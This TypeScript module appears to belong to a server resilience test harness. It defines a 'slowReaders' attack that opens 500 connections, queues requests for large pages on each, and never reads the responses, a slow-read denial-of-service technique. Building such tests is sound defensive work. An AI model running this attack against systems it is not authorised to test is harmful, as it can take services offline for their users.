import type { Attack } from '../attack.ts'
import { largePagesOf } from '../largePages.ts'
import { headOf, holdOpen } from '../rawSocket.ts'
import { repeat } from '../repeat.ts'

const atOnce = 500
/** Requests on one connection, behind one another. */
const behind = 4

export const slowReaders: Attack = {
  does: `asks for large pages on ${atOnce} connections and reads none`,
  run: async (attacker) => {
    const paths = await largePagesOf(attacker)
    const heads = paths.map((path) => headOf(attacker, `GET ${path}`))
    await repeat(attacker, atOnce, (index) => {
      const text = (heads[index % heads.length] as string).repeat(behind)
      return holdOpen(attacker, { text, reads: false })
    })
  },
}
